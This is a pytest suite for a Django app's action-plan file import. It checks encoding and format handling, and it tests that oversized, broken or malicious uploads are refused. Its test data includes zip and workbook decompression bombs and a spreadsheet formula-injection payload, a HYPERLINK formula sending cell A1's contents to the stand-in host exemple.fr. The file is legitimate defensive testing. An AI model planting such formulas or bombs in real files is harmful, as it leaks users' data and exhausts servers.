"""Whatever is sent as a file of actions is read rightly, or refused in words that say what to do; the site goes on."""

from __future__ import annotations

import csv
import io
import re
import resource
import time

import openpyxl
import pytest
import xlsxwriter
from django.core.files.uploadedfile import SimpleUploadedFile
from django.http import HttpResponse
from django.test import Client

from copilote.diagnostic.models import Action
from support_cop import CVL, browser_of, speaker
from support_files import open_document, open_row, raw_workbook, workbook, zipped
from support_jobs import do_jobs
from support_words import text_of

pytestmark = pytest.mark.django_db
ACTIONS = f"{CVL}/cop/actions"
HEAD = ("Titre", "Levier", "Statut", "Quantité d’ici 2030", "Unité", "Date de début", "Budget (€)")
ROW = ("Bornes à Blois", "augm_voitelec", "En cours", "1 500,5", "véhicules", "31/12/2025", "12 345,60 €")
TEXT = ";".join(HEAD) + "\n" + ";".join(ROW) + "\n"
CELL = '<c r="{at}" t="inlineStr"><is><t>{text}</t></is></c>'


def bare(response: HttpResponse) -> str:
    return text_of(response).replace("\u00a0", " ").replace("\u202f", " ")


def seen(content: bytes, name: str = "plan.xlsx") -> tuple[Client, HttpResponse]:
    """What is told of a file, long or not."""
    browser = browser_of(speaker())
    answer = browser.post(f"{ACTIONS}/liste", {"fichier": SimpleUploadedFile(name, content)})
    if answer.status_code == 302:
        page = browser.get(answer["Location"])
        if b"data-job" in page.content:
            do_jobs()
        answer = browser.get(answer["Location"], follow=True)
    return browser, answer


def only_action(content: bytes, name: str = "plan.xlsx") -> Action:
    """The action that a file gives, once loaded."""
    browser, page = seen(content, name)
    seal = re.search(r'name="vu" value="(\w+)"', page.content.decode())
    assert seal, bare(page)
    browser.post(page.request["PATH_INFO"], {"vu": seal[1]})
    do_jobs()
    return Action.objects.get()


def rows_of_xml(*rows: tuple[str, ...], more: str = "") -> bytes:
    lines = []
    for line, row in enumerate(rows, start=1):
        cells = "".join(CELL.format(at=f"{chr(65 + rank)}{line}", text=text) for rank, text in enumerate(row))
        lines.append(f'<row r="{line}">{cells}</row>')
    return raw_workbook("".join(lines) + more)


def with_macros() -> bytes:
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out)
    sheet = book.add_worksheet("Actions")
    for line, row in enumerate((HEAD, ROW)):
        sheet.write_row(line, 0, row)
    book.add_vba_project(io.BytesIO(b"\xd0\xcf\x11\xe0" + b"macro" * 200), is_stream=True)
    book.close()
    return out.getvalue()


def typed() -> bytes:
    """Numbers as numbers, a date as the spreadsheet's own."""
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out)
    sheet = book.add_worksheet("Actions")
    sheet.write_row(0, 0, HEAD)
    sheet.write_row(1, 0, (*ROW[:3], 1500.5, ROW[4]))
    sheet.write_number(1, 5, 46022, book.add_format({"num_format": "dd/mm/yyyy"}))
    sheet.write_number(1, 6, 12345.6)
    book.close()
    return out.getvalue()


def merged() -> bytes:
    """A title merged over the columns, then the table."""
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out)
    sheet = book.add_worksheet("Actions")
    sheet.merge_range(0, 0, 0, 6, "Plan climat 2026")
    sheet.write_row(2, 0, HEAD)
    sheet.write_row(3, 0, ROW)
    book.close()
    return out.getvalue()


EMPTY_XML = '<row r="1048576"><c r="A1048576" s="0"/><c r="XFD1048576" s="0"/></row>'
EMPTY_ODS = (
    '<table:table-row table:number-rows-repeated="1048574">'
    '<table:table-cell table:number-columns-repeated="16384"/></table:table-row>'
)
READ_RIGHTLY = {
    "cp1252": (TEXT.encode("cp1252"), "plan.csv"),
    "utf-8 with a mark": (TEXT.encode("utf-8-sig"), "plan.csv"),
    "utf-16": (TEXT.encode("utf-16"), "plan.csv"),
    "mac roman": (TEXT.encode("mac_roman"), "plan.csv"),
    "dos": (TEXT.replace("’", "'").replace("€", "").encode("cp850"), "plan.csv"),
    "tabs": (TEXT.replace(";", "\t").encode(), "plan.txt"),
    "macros": (with_macros(), "plan.xlsm"),
    "numbers and dates of the spreadsheet": (typed(), "plan.xlsx"),
    "a title over merged cells": (merged(), "plan.xlsx"),
    "serial number as text": (TEXT.replace("31/12/2025", "46022").encode(), "plan.csv"),
    "american date": (TEXT.replace("31/12/2025", "12/31/2025").encode(), "plan.csv"),
    "date in words": (TEXT.replace("31/12/2025", "31 décembre 2025").encode(), "plan.csv"),
    "thin spaces": (TEXT.replace("1 500,5", "1\u202f500,5").replace("12 345", "12\u00a0345").encode(), "plan.csv"),
    "english numbers": (TEXT.replace("1 500,5", "1,500.5").replace("12 345,60 €", "12345.6").encode(), "plan.csv"),
    "a million empty rows": (rows_of_xml(HEAD, ROW, more=EMPTY_XML), "plan.xlsx"),
    "a million empty rows, open document": (
        open_document(open_row(HEAD) + open_row(ROW) + EMPTY_ODS),
        "plan.ods",
    ),
}
"""The same row, whatever the file."""


@pytest.mark.parametrize("case", READ_RIGHTLY)
def test_a_row_is_the_same_whatever_its_file(case: str) -> None:
    action = only_action(*READ_RIGHTLY[case])
    assert (action.title, action.status, action.measured) == ("Bornes à Blois", "under_way", "augm_voitelec")
    assert (action.quantity, str(action.start), action.amount_eur) == (1.5005, "2025-12-31", 12_345.6)


SHARED = f"<si><t>{'x' * 32_000}</t></si>"
REFUSED = {
    "nothing": (b"", "plan.csv", "est vide"),
    "a picture": (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "plan.xlsx", "n’est ni un tableau"),
    "a pdf": (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj, x\n", "plan.pdf", "est un PDF"),
    "a page": (b"<!DOCTYPE html><table><tr><td>Titre</td></tr></table>", "plan.xls", "est une page web"),
    "a letter": (
        zipped({"[Content_Types].xml": "<x/>", "word/document.xml": "<x/>"}),
        "plan.docx",
        "traitement de texte",
    ),
    "a broken workbook": (workbook(A=[HEAD, ROW])[:900], "plan.xlsx", "abîmé"),
    "an encrypted workbook": (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600,
        "plan.xlsx",
        "mot de passe",
    ),
    "a zip bomb": (zipped({"plan.csv": b"Titre;Statut\n" + b"\n" * 60_000_000}), "plan.zip", "trop gros"),
    "a workbook bomb": (
        zipped({"[Content_Types].xml": "<x/>", "xl/worksheets/sheet1.xml": b"0" * 120_000_000}),
        "plan.xlsx",
        "trop gros",
    ),
    "a text that thousands of cells share": (
        raw_workbook("".join(f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(1, 9_000)), SHARED),
        "plan.xlsx",
        "trop grand",
    ),
    "too many rows": (b"Titre;Statut\n" + b"a;Idee\n" * 12_100, "plan.csv", "trop grand"),
    "too many columns": (b"Titre;Statut\n" + b"a" + b";" * 300 + b"\n", "plan.csv", "trop grand"),
    "too large": (b"Titre;Statut\n" + b"a" * 10_100_000, "plan.csv", "trop gros"),
    "read in the wrong encoding": (TEXT.encode().decode("cp1252").encode(), "plan.csv", "a perdu ses accents"),
    "quotes that nothing closes": (b'Titre;Statut\n"a;Idee\n', "plan.csv", "guillemets non fermés"),
    "headings alone": (b"Titre;Statut\n", "plan.csv", "aucune ligne"),
    "one column": (b"Chantiers\nVelo\n", "plan.csv", "pas de ligne de titres"),
    "titles merged over several rows": (
        (";".join(HEAD) + "\n" + ";".join(ROW) + "\n" + ";" + ";".join(ROW[1:]) + "\n").encode(),
        "plan.csv",
        "cellule fusionnée",
    ),
    "a formula in error": (workbook(A=[HEAD, ("Bornes", "augm_voitelec", "#REF!")]), "plan.xlsx", "#REF!"),
    "a date that is none": (TEXT.replace("31/12/2025", "31/02/2025").encode(), "plan.csv", "n’est pas une date"),
    "a number that is none": (TEXT.replace("1 500,5", "1.500,5,0").encode(), "plan.csv", "n’est pas un nombre"),
    "a year of five digits": (TEXT.replace("31/12/2025", "31/12/20255").encode(), "plan.csv", "n’est pas une date"),
}
"""What is sent, and what is told of it."""


@pytest.mark.parametrize("case", REFUSED)
def test_a_bad_file_is_refused_in_words_and_nothing_is_loaded(case: str) -> None:
    content, name, words = REFUSED[case]
    started, before = time.process_time(), resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    _browser, page = seen(content, name)
    assert words in bare(page)
    assert 'name="vu"' not in page.content.decode()
    assert not Action.objects.exists()
    assert time.process_time() - started < 20
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 400_000, "kilobytes"


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t=", "\r="])
def test_a_cell_that_a_spreadsheet_would_run_comes_out_as_words(sign: str) -> None:
    formula = f'{sign}HYPERLINK("http://exemple.fr?"&A1;"x")'
    book = workbook(A=[HEAD, ("x", *ROW[1:])])
    assert book
    text = io.StringIO()
    csv.writer(text, delimiter=";").writerows([HEAD, (formula, *ROW[1:])])
    action = only_action(text.getvalue().encode(), "plan.csv")
    assert action.title == formula.strip()
    browser = browser_of(speaker())
    told = browser.get(f"{ACTIONS}.csv").content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(told), delimiter=";") for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "@", "\t", "\r", "+H", "-H"))]
    for address in (f"{ACTIONS}.xlsx", f"{ACTIONS}/tableau.xlsx"):
        sheets = openpyxl.load_workbook(io.BytesIO(browser.get(address).content))
        held = [cell for sheet in sheets for row in sheet.iter_rows() for cell in row if "HYPERLINK" in str(cell.value)]
        assert held
        assert {cell.data_type for cell in held} == {"s"}
    back = browser.post(
        f"{ACTIONS}/liste", {"fichier": SimpleUploadedFile("t.xlsx", browser.get(f"{ACTIONS}/tableau.xlsx").content)}
    )
    assert "Cette liste ne change rien" in bare(browser.get(back["Location"]))
